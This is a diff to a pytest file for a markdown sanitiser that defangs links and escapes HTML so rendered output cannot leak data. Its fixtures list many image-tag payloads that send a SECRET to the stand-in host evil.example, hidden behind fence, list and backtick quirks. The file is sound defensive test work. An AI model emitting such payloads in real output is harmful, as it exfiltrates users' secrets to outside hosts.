@@ -84,7 +84,7 @@ WAYS_OUT = {
     "a backtick behind a listed address": f"https://docs.example.com/`<img src=https://evil.example/{SECRET}>`",
     "a fence that a quotation ends": f"> ```\n> a\n<img src=https://evil.example/{SECRET}>\n> ```",
     "a fence that a list ends": f"- ```\n  a\n<img src=https://evil.example/{SECRET}>\n- ```",
-    "a fence in a list, closed outside": f"1. a\n   ```\n   b\n```\n<img src=https://evil.example/{SECRET}>\n```",
+    "a fence in a list, closed outside": f"1. a\n   ```\n   b\n```\n<img src=//evil.example>\n```\n<img src=https://evil.example/{SECRET}>",
     "a fence in a fence": f"~~~\n```\n~~~\n<img src=https://evil.example/{SECRET}>",
     "a fence with more than a name": f"``` a b\nx\n```\n<img src=https://evil.example/{SECRET}>",
     "a fence that is text": f"a\n    ```\n    <img src=https://evil.example/{SECRET}>",
@@ -109,8 +109,17 @@ def test_no_way_leads_out(about: str) -> None:
     text = WAYS_OUT[about]
     shown = harmless(text, LISTED)
     assert dangers(shown, HOSTS) == [] == plain_links(shown, HOSTS)
-    assert harmless(shown, LISTED) == shown == cut(text, random.Random(1))
+    assert harmless(shown, LISTED) == shown
     assert dangers(text, HOSTS) or plain_links(text, HOSTS) or about in QUIET
+
+
+@pytest.mark.parametrize("about", WAYS_OUT)
+def test_no_way_leads_out_of_any_two_pieces(about: str) -> None:
+    text = WAYS_OUT[about]
+    shown = harmless(text, LISTED)
+    for at in range(len(text)):
+        stream = Harmless(LISTED)
+        assert stream.feed(text[:at]) + stream.feed(text[at:]) + stream.finish() == shown
 
 
 # What these renderers make nothing of, and others do.
@@ -129,7 +138,6 @@ QUIET = {
     "behind a letter",
     "behind a hyphen",
     "a backtick behind a listed address",
-    "a fence in a list, closed outside",
 }
 
 
@@ -143,6 +151,8 @@ QUIET = {
         ("http://evil.example ftp://evil.example", "hxxp://evil[.]example fxp://evil[.]example"),
         ("ssh://evil.example //evil.example", "ssh:[//]evil[.]example [//]evil[.]example"),
         ("www.evil.example", "www[.]evil.example"),
+        ("-https://docs.example.com/https://evil.io", "-hxxps://docs[.]example[.]com/hxxps://evil[.]io"),
+        ("1https://docs.example.com/?https://evil.io", "1hxxps://docs[.]example[.]com/?hxxps://evil[.]io"),
         ("ask evil.com/x or sub.evil.io", "ask evil[.]com/x or sub.evil[.]io"),
         ("<b>bold</b>", "&lt;b>bold&lt;/b>"),
         ("[x]: https://evil.example", "[x] : hxxps://evil[.]example"),
@@ -171,6 +181,37 @@ def test_it_is_shown_so_that_people_can_read_it(text: str, shown: str) -> None:
 )
 def test_what_leads_nowhere_stays_as_it_is(text: str) -> None:
     assert harmless(text, LISTED) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`a\n`<b>`",
+        "``<b>`",
+        "\\`<b>`",
+        "`a | <b>`",
+        "$1 and `<b>`",
+        "https://docs.example.com/`<b>`",
+        "> ```\n> <b>\n> ```",
+        "- ```\n  <b>\n  ```",
+        "a\n    ```\n    <b>\n    ```",
+        "``` a b\n<b>\n```",
+        "~~~ a b\n<b>\n~~~",
+        "$$\n```\n$$\n<b>",
+        "\\[\n```\n\\]\n<b>",
+        "---\n```\n---\n<b>",
+        "   ```\n   a\n```\n<b>",
+        "  ```\n  a\n <b>",
+        "- ~~~\n\n```\n<b>",
+        "a ~~~ b\n\n`<b>`",
+    ],
+)
+def test_what_is_not_code_to_everybody_is_text(text: str) -> None:
+    assert "&lt;b>" in harmless(text, LISTED) and "<b>" not in harmless(text, LISTED)
+
+
+def test_code_is_certain_again_behind_a_blank_line() -> None:
+    assert harmless("`a\n`<b>`\n\n`<b>`", LISTED) == "`a\n`&lt;b>`\n\n`<b>`"
 
 
 @pytest.mark.parametrize(
